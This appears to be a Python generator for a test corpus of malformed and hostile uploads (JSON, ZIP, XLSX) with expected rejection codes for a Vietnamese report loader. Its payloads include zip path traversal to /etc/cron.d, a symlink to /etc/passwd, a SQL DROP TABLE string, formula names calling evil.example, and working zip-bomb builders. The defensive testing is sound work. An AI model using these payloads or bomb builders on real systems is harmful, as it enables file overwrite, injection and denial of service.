            _locality("json", INJECTIONS[1], "2005-07"),
            "HYPERLINK",
        ),
        Case(
            "j15_nfd.json", "accepted", (), "keys and values in NFD", _json_doc(_nfd_doc("2005-08"))
        ),
        Case(
            "j16_new_ward_before.json",
            "rejected",
            ("unknown_locality",),
            "Phường Hạ Long (a 2025 ward) reporting for 2022-H1",
            _locality("json", "Phường Hạ Long, Quảng Ninh", "2022-H1"),
            "only exists from 2025-07-01",
        ),
        Case(
            "j17_nan_infinity.json",
            "rejected",
            ("invalid_number",),
            "NaN, Infinity and 1e400 as values",
            _json_raw(
                "2005-09",
                ', "indicators": ['
                '{"indicator_code": "bts_4g_in_service", "value": NaN},'
                '{"indicator_code": "bts_4g_new", "value": Infinity},'
                '{"indicator_code": "dti_score", "value": 1e400}]',
            ),
        ),
        Case(
            "j18_integer_overflow.json",
            "rejected",
            ("out_of_range",),
            "a count of 10^12 Wi-Fi points and goals_achieved 2^31 (marts hold integers)",
            _json_raw(
                "2005-10",
                ', "indicators": [{"indicator_code": "wifi_points_in_service",'
                ' "value": 1000000000000}], "goal_summary": [{"pillar": "all",'
                ' "goals_total": 2147483648, "goals_achieved": 2147483648}]',
            ),
            "2,147,483,647",
        ),
        Case(
            "j19_nul_in_text.json",
            "rejected",
            ("invalid_encoding", "unknown_column", "unknown_table"),
            "NUL in a value, a column name and a table name (crashed the loader before the fix)",
            _json_raw(
                "2005-11",
                ', "wifi_points": [{"point_id": "A\\u0000B", "status": "active",'
                ' "na\\u0000me": "x"}], "wi\\u0000fi": []',
            ),
        ),
        Case(
            "j20_lone_surrogate.json",
            "rejected",
            ("invalid_encoding",),
            "a \\ud800 escape (half a UTF-16 pair) in agency (crashed the loader before the fix)",
            _json_raw("2005-12", "", ', "agency": "UBND \\ud800 tỉnh"'),
        ),
        Case(
            "j21_wrong_shapes.json",
            "rejected",
            ("invalid_row", "invalid_table_shape", "invalid_type"),
            "a table as an object, a row as a list, a value as an object",
            _json_raw(
                "2006-Q1",
                ', "goals": {"goal_code": "X"}, "wifi_points": [["A", "active"],'
                ' {"point_id": {"$ne": null}, "status": "active"}]',
            ),
        ),
        Case(
            "j22_number_too_long.json",
            "rejected",
            ("invalid_number",),
            "a 10,000-digit number as text",
            _json_raw(
                "2006-Q2",
                ', "indicators": ['
                '{"indicator_code": "bts_4g_in_service", "value": "' + "9" * 10_000 + '"}]',
            ),
        ),
        Case(
            "j23_unknown_everything.json",
            "rejected",
            ("unknown_column", "unknown_field", "unknown_table"),
            "an unknown table, column and field",
            _json_raw(
                "2006-Q3",
                ', "users": [], "wifi_points": [{"point_id": "A", "status": "active",'
                ' "password": "x"}]',
                ', "password": "hunter2"',
            ),
        ),
        Case(
            "=HYPERLINK(1)+j24_formula_file_name.json",
            "accepted",
            (),
            "a file name that starts like a formula",
            _json_doc(doc("2006-Q4")),
        ),
        # ---------------------------------------------------------------- .zip
        Case(
            "z01_garbage.zip",
            "rejected",
            ("unreadable_file",),
            "random bytes named .zip",
            _bytes(_random_bytes(3, 4096)),
        ),
        Case("z02_empty.zip", "rejected", ("unreadable_file",), "an empty file", _bytes(b"")),
        Case(
            "z03_truncated.zip",
            "rejected",
            ("unreadable_file",),
            "a valid archive cut at 70%",
            _truncated(_zip_doc(doc("2007", wifi_points=wifi(50))), 0.7),
        ),
        Case(
            "z04_path_traversal.zip",
            "rejected",
            ("unsafe_zip_path",),
            "entries ../submission.csv and ../../etc/cron.d/x.csv",
            lambda p: zip_of(
                p, {"../submission.csv": submission_csv("2007-H1"), "../../etc/cron.d/x.csv": b"x"}
            ),
            "../submission.csv",
        ),
        Case(
            "z05_absolute_path.zip",
            "rejected",
            ("unsafe_zip_path",),
            "entry /etc/submission.csv",
            lambda p: zip_of(p, {"/etc/submission.csv": submission_csv("2007-H2")}),
            "/etc/submission.csv",
        ),
        Case(
            "z06_windows_paths.zip",
            "rejected",
            ("unsafe_zip_path",),
            "entries C:\\Windows\\submission.csv and ..\\..\\wifi_points.csv",
            lambda p: zip_of(
                p,
                {
                    "C:\\Windows\\submission.csv": submission_csv("2007-Q1"),
                    "..\\..\\wifi_points.csv": b"x",
                },
            ),
        ),
        Case(
            "z07_forged_size.zip",
            "rejected",
            ("missing_field", "unreadable_file"),
            "an entry that inflates to 20 MB but declares 200 bytes: reading stops at 200 bytes "
            "and fails its CRC, so no field is read",
            _zip_forged_size,
        ),
        Case(
            "z08_nested_zip.zip",
            "rejected",
            ("unknown_table",),
            "a zip inside the zip (never opened)",
            lambda p: zip_of(
                p,
                {
                    "submission.csv": submission_csv("2007-Q4"),
                    "inner.zip": b"PK\x05\x06" + b"\0" * 18,
                },
            ),
        ),
        Case(
            "z09_too_many_entries.zip",
            "rejected",
            ("zip_too_many_entries",),
            "51 entries (limit 50)",
            lambda p: zip_of(
                p,
                {
                    "submission.csv": submission_csv("2008-Q1"),
                    **{f"#note{n}.txt": b"x" for n in range(50)},
                },
            ),
        ),
        Case(
            "z10_encrypted_entry.zip",
            "rejected",
            ("unreadable_file",),
            "an entry flagged as encrypted",
            _zip_encrypted_entry,
            "encrypted",
        ),
        Case(
            "z11_windows_1258.zip",
            "rejected",
            ("invalid_encoding", "missing_field"),
            "submission.csv saved as Windows-1258 (so no field is read)",
            lambda p: zip_of(
                p, {"submission.csv": cp1258(submission_csv("2008-Q2").decode("utf-8-sig"))}
            ),
        ),
        Case(
            "z12_invalid_utf8.zip",
            "rejected",
            ("invalid_encoding",),
            "wifi_points.csv with bytes that are not UTF-8 in row 3",
            lambda p: zip_of(
                p,
                {
                    "submission.csv": submission_csv("2008-Q3"),
                    "wifi_points.csv": table_csv(wifi(1))
                    + b"DB-9,\xff\xfe\xfd,,21.4,103.0,active,\r\n",
                },
            ),
        ),
        Case(
            "z13_utf16.zip",
            "rejected",
            ("invalid_encoding", "missing_field"),
            "submission.csv in UTF-16 (so no field is read)",
            lambda p: zip_of(
                p,
                {"submission.csv": submission_csv("2008-Q4").decode("utf-8-sig").encode("utf-16")},
            ),
        ),
        Case(
            "z14_unterminated_quote.zip",
            "rejected",
            ("malformed_csv",),
            "a quote opened in row 3 and never closed (200,000 characters follow)",
            lambda p: zip_of(
                p,
                {
                    "submission.csv": submission_csv("2009-Q1"),
                    "wifi_points.csv": table_csv(wifi(1))
                    + b'DB-2,"never closed\r\n'
                    + b"x" * 200_000,
                },
            ),
        ),
        Case(
            "z15_oversized_cell.zip",
            "rejected",
            ("malformed_csv",),
            "a 200,000-character cell",
            lambda p: zip_of(
                p,
                {
                    "submission.csv": submission_csv("2009-Q2"),
                    "wifi_points.csv": table_csv(wifi(1))
                    + b"DB-2,"
                    + b"y" * 200_000
                    + b",,,,active,\r\n",
                },
            ),
        ),
        Case(
            "z16_duplicate_entries.zip",
            "rejected",
            ("duplicate_table",),
            "submission.csv twice (top and in a folder) and wifi_points under two names",
            lambda p: zip_of(
                p,
                {
                    "submission.csv": submission_csv("2009-Q3"),
                    "bao_cao/submission.csv": submission_csv("2009-Q3"),
                    "wifi_points.csv": table_csv(wifi(1)),
                    "điểm wifi.csv": table_csv(wifi(1)),
                },
            ),
        ),
        Case(
            "z17_duplicate_columns.zip",
            "rejected",
            ("duplicate_column",),
            "columns status and trạng thái",
            lambda p: zip_of(
                p,
                {
                    "submission.csv": submission_csv("2009-Q4"),
                    "wifi_points.csv": table_csv([{**r, "trạng thái": "active"} for r in wifi(2)]),
                },
            ),
        ),
        Case(
            "z18_header_only.zip",
            "accepted",
            (),
            "CSV files with a header and no rows",
            lambda p: zip_of(
                p,
                {
                    "submission.csv": submission_csv("2009-07"),
                    "wifi_points.csv": b"point_id,status\r\n",
                    "goals.csv": b"\xef\xbb\xbfgoal_code;pillar;status\r\n",
                    "indicators.csv": b"indicator_code,value\r\n,\r\n,\r\n",
                },
            ),
        ),
        Case(
            "z19_million_empty_rows.zip",
            "accepted",
            (),
            "wifi_points.csv: 2 points then 1,500,000 rows of commas",
            _zip_empty_rows(1_500_000, "2009-08"),
        ),
        Case(
            "z20_too_many_rows.zip",
            "rejected",
            ("too_many_rows",),
            "wifi_points.csv: 2,500,000 rows of commas (limit 2,000,000 rows read)",
            _zip_empty_rows(2_500_000, "2009-09"),
        ),
        Case(
            "z21_impossible_dates.zip",
            "rejected",
            ("invalid_date",),
            "31/2/2022 and friends",
            _bad_dates("zip", "2009-10"),
            "31/2/2022",
        ),
        Case(
            "z22_injection_every_field.zip",
            "accepted",
            (),
            "SQL, formula, template and markup text in every free-text field",
            _every_text("zip", "2009-11", 10),
        ),
        Case(
            "z23_injection_locality.zip",
            "rejected",
            ("unknown_locality",),
            'locality = "Robert\'); DROP TABLE raw.wifi_points;--"',
            _locality("zip", INJECTIONS[6], "2009-12"),
            "DROP TABLE",
        ),
        Case(
            "z24_nfd.zip",
            "accepted",
            (),
            "entry names, headers and values in NFD",
            _zip_doc(_nfd_doc("2008-07")),
        ),
        Case(
            "z25_abolished_district_after.zip",
            "rejected",
            ("unknown_locality",),
            "Thành phố Hạ Long (district level abolished 1/7/2025) reporting for 2025",
            _locality("zip", "Thành phố Hạ Long", "2025"),
            "district level abolished",
        ),
        Case(
            "z26_symlink_entry.zip",
            "rejected",
            ("missing_column", "unknown_column"),
            "wifi_points.csv is a symbolic link to /etc/passwd: read as the text '/etc/passwd', "
            "never followed",
            _zip_symlink,
            "/etc/passwd",
        ),
        Case(
            "z27_nul_in_csv.zip",
            "rejected",
            ("invalid_encoding",),
            "a NUL character in a CSV cell (crashed the loader before the fix)",
            lambda p: zip_of(p, {"submission.csv": submission_csv("2008-08", agency="a\x00b")}),
        ),
        Case(
            "z28_formula_entry_name.zip",
            "rejected",
            ("unknown_table",),
            'an entry named =HYPERLINK("http://evil.example").csv',
            lambda p: zip_of(
                p,
                {
                    "submission.csv": submission_csv("2008-09"),
                    '=HYPERLINK("http://evil.example").csv': b"a\r\n1\r\n",
                },
            ),
        ),
        Case(
            "z29_macos_junk.zip",
            "accepted",
            (),
            "__MACOSX/, .DS_Store, a README and # notes next to the data",
            lambda p: zip_of(
                p,
                {
                    "__MACOSX/._submission.csv": _random_bytes(4, 100),
                    "bao_cao/.DS_Store": _random_bytes(5, 100),
                    "bao_cao/README.txt": b"notes",
                    "bao_cao/# ghi chu.csv": b"x",
                    "bao_cao/submission.csv": submission_csv("2008-10"),
                    "bao_cao/wifi_points.csv": table_csv(wifi(3, "MJ")),
                },
            ),
        ),
        Case(
            "z30_integer_overflow.zip",
            "rejected",
            ("numerator_exceeds_denominator", "out_of_range"),
            "goals_in_progress 99.999.999.999 written the Vietnamese way (and above the total)",
            lambda p: zip_of(
                p,
                {
                    "submission.csv": submission_csv("2008-11"),
                    "goal_summary.csv": b"pillar,goals_total,goals_achieved,goals_in_progress\r\n"
                    b"all,10,1,99.999.999.999\r\n",
                },
            ),
            "2,147,483,647",
        ),
        Case(
            "z31_semicolons_crlf_bom.zip",
            "accepted",
            (),
            "a European-Excel CSV: ';' separated, BOM, CRLF, decimal commas",
            lambda p: zip_of(
                p,
                {
                    "submission.csv": submission_csv("2008-12"),
                    "wifi_points.csv": b"\xef\xbb\xbfpoint_id;latitude;longitude;status\r\n"
                    b"SC-1;21,38;103,02;ho\xe1\xba\xa1t \xc4\x91\xe1\xbb\x99ng\r\n",
                },
            ),
        ),
    ]
    names = [c.name for c in out]
    assert len(names) == len(set(names))
    return out


# -- giants: written at test time ---------------------------------------------------------------
_BOMB_ENTRY = 44 * (1 << 20)


def _deflated_zeros(size: int) -> tuple[bytes, int]:
    """Raw deflate of `size` zero bytes, and its CRC-32."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = b"\0" * (1 << 20)
    parts, crc = [], 0
    for _ in range(size // len(block)):
        parts.append(deflate.compress(block))
        crc = zlib.crc32(block, crc)
    parts.append(deflate.flush())
    return b"".join(parts), crc


def _honest_bomb(path: Path, first: dict[str, bytes], names: list[str]) -> None:
    """Entries that truly inflate to 44 MiB each (declared honestly): 49 make 2.1 GiB."""
    data, crc = _deflated_zeros(_BOMB_ENTRY)
    with path.open("wb") as out:
        central = []
        for name, blob in first.items():
            central.append(
                _local(out, name, zlib.compress(blob)[2:-4], zlib.crc32(blob), len(blob))
            )
        for name in names:
            central.append(_local(out, name, data, crc, _BOMB_ENTRY))
        start = out.tell()
        for record in central:
            out.write(record)
        size = out.tell() - start
        out.write(
            struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(central), len(central), size, start, 0)
        )


def _local(out: Any, name: str, data: bytes, crc: int, size: int) -> bytes:
    """Write a local header and data; return the central directory record."""
    encoded = name.encode()
    offset = out.tell()
    out.write(
        struct.pack(
            "<4s5H3L2H", b"PK\x03\x04", 20, 0x800, 8, 0, 0x21, crc, len(data), size, len(encoded), 0
        )
        + encoded
        + data
    )
    return (
        struct.pack(
            "<4s6H3L5H2L",
            b"PK\x01\x02",
            20,
            20,
            0x800,
            8,
            0,
            0x21,
            crc,
            len(data),
            size,
            len(encoded),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        + encoded
    )


def _zip_bomb(path: Path) -> None:
    _honest_bomb(
        path, {"submission.csv": submission_csv("2001-05")}, [f"#padding{n}.csv" for n in range(49)]
    )


def _xlsx_bomb(path: Path) -> None:
    small = path.with_suffix(".small.xlsx")
    write_xlsx(doc("2001-06"), small)
    with zipfile.ZipFile(small) as archive:
        parts = {i.filename: archive.read(i) for i in archive.infolist()}
    small.unlink()
    _honest_bomb(path, parts, [f"xl/media/image{n}.png" for n in range(49)])


def _forged_bomb_xlsx(path: Path) -> None:
    """A sheet part declaring 1 KB that inflates to 256 MiB."""
    write_xlsx(doc("2001-07"), path)
    data, _ = _deflated_zeros(1 << 28)
    with zipfile.ZipFile(path) as archive:
        parts = [(i, archive.read(i)) for i in archive.infolist()]
    with path.open("wb") as out:
        central = []
        for info, blob in parts:
            if info.filename == "xl/worksheets/sheet1.xml":
                central.append(_local(out, info.filename, data, zlib.crc32(blob), 1024))
            else:
                central.append(
                    _local(
                        out, info.filename, zlib.compress(blob)[2:-4], zlib.crc32(blob), len(blob)
                    )
                )
        start = out.tell()
        for record in central:
            out.write(record)
        out.write(
            struct.pack(
                "<4s4H2LH",
                b"PK\x05\x06",
                0,
                0,
                len(central),
                len(central),
                out.tell() - start,
                start,
                0,
            )
        )


def _many_entries(path: Path) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr(entry("submission.csv"), submission_csv("2001-08"))
        for n in range(100_000):
            archive.writestr(entry(f"#n{n}"), b"")


def _big_json(path: Path) -> None:
    """51 MiB of JSON (limit 50 MiB)."""
    head = json.dumps({"submission": header("2001-09")}, default=str)[:-1]
    with path.open("w", encoding="utf-8") as out:
        out.write(head + ', "wifi_points": [')
        row = json.dumps(wifi(1)[0], default=str, ensure_ascii=False)
        block = ",".join([row] * 1000)
        for n in range((51 << 20) // len(block) + 1):
            out.write(("," if n else "") + block)
        out.write("]}")


def _long_text_json(path: Path) -> None:
    """A 5 MB agency name and a 100,000-row note column: accepted, stored whole."""
    sub = doc("2001-10")
    sub["submission"]["agency"] = "Sở " + "Thông tin " * 500_000
    write_json(sub, path)


def _json_near_limit(path: Path) -> None:
    """49 MiB of JSON: 230,000 Wi-Fi points (parsed whole in memory)."""
    rows = wifi(1)[0]
    head = json.dumps({"submission": header("2001-11")}, default=str, ensure_ascii=False)[:-1]
    with path.open("w", encoding="utf-8") as out:
        out.write(head + ', "wifi_points": [')
        first = True
        n = 0
        while out.tell() < (49 << 20) - 400:
            row = dict(
                rows,
                point_id=f"NL-{n:07d}",
                latitude=21.0 + (n % 1000) / 10_000,
                name=f"Điểm wifi công cộng số {n} khu dân cư {n % 97}",
            )
            out.write(("" if first else ",") + json.dumps(row, default=str, ensure_ascii=False))
            first = False
            n += 1
        out.write("]}")


def _non_utf8_name(directory: Path) -> Path:
    """A valid JSON whose file name is Windows-1258 bytes, not UTF-8 (as unzipped on Linux)."""
    name = os.fsdecode(b"b\xe1o c\xe1o 2001-12 " + cp1258("Điện Biên") + b".json")
    path = directory / name
    write_json(doc("2001-12"), path)
    return path


@dataclass(frozen=True)
class Giant:
    """A case written at test time."""

    name: str
    outcome: str
    codes: tuple[str, ...]
    why: str
    write: Callable[[Path], None]
    heavy: bool = False  # only in the `reliability` run
    message: str = ""

    @property
    def carrier(self) -> str:
        return self.name.rsplit(".", 1)[-1]


GIANTS = (
    Giant(
        "g01_zip_bomb.zip",
        "rejected",
        ("zip_too_large",),
        "49 entries that truly inflate to 44 MiB each (2.1 GiB from 2 MB)",
        _zip_bomb,
    ),
    Giant(
        "g02_xlsx_bomb.xlsx",
        "rejected",
        ("zip_too_large",),
        "a workbook whose 49 media parts inflate to 2.1 GiB",
        _xlsx_bomb,
    ),
    Giant(
        "g03_forged_xlsx_bomb.xlsx",
        "rejected",
        ("zip_too_large",),
        "a sheet part that declares 1 KB and inflates to 256 MiB",
        _forged_bomb_xlsx,
    ),
    Giant(
        "g04_100000_entries.zip",
        "rejected",
        ("zip_too_many_entries",),
        "100,001 entries",
        _many_entries,
    ),
    Giant(
        "g05_51_mib.json",
        "rejected",
        ("file_too_large",),
        "51 MiB of JSON (limit 50 MiB)",
        _big_json,
    ),
    Giant("g06_long_text.json", "accepted", (), "a 5 MB agency name", _long_text_json),
    Giant(
        "g07_49_mib.json",
        "accepted",
        (),
        "49 MiB of JSON, 230,000 Wi-Fi points (parsed whole)",
        _json_near_limit,
        heavy=True,
    ),
)


def write_giants(directory: Path, *, heavy: bool = False) -> dict[Path, Giant]:
    """Write the giant cases (and the non-UTF-8 file name) into `directory`."""
    directory.mkdir(parents=True, exist_ok=True)
    out = {}
    for giant in GIANTS:
        if giant.heavy and not heavy:
            continue
        path = directory / giant.name
        giant.write(path)
        out[path] = giant
    odd = _non_utf8_name(directory)
    out[odd] = Giant(odd.name, "accepted", (), "a file name in Windows-1258 bytes", lambda p: None)
    return out


# -- the table ----------------------------------------------------------------------------------
def write_corpus(out: Path = CORPUS) -> list[Path]:
    """Write every small case and EXPECTED.csv into `out` (replacing earlier files)."""
    out.mkdir(parents=True, exist_ok=True)
    for old in out.iterdir():
        if old.is_file():
            old.unlink()
    written = []
    rows = [("file", "carrier", "outcome", "codes", "message", "why")]
    for case in cases():
        path = out / case.name
        case.write(path)
        written.append(path)
        rows.append(
            (
                case.name,
                case.carrier,
                case.outcome,
                " ".join(sorted(case.codes)),
                case.message,
                case.why,
            )
        )
    with (out / EXPECTED_NAME).open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, lineterminator="\n").writerows(rows)
    return written


def read_expected(folder: Path = CORPUS) -> dict[str, dict[str, Any]]:
    """EXPECTED.csv as {file: {outcome, codes (set), message, why}}."""
    with (folder / EXPECTED_NAME).open(encoding="utf-8", newline="") as handle:
        return {
            row["file"]: {
                "outcome": row["outcome"],
                "codes": set(row["codes"].split()),
                "message": row["message"],
                "why": row["why"],
                "carrier": row["carrier"],
            }
            for row in csv.DictReader(handle)
        }


if __name__ == "__main__":
    target = Path(sys.argv[1]) if len(sys.argv) > 1 else CORPUS
    files = write_corpus(target)
    print(f"{len(files)} files and {EXPECTED_NAME} written to {target}")
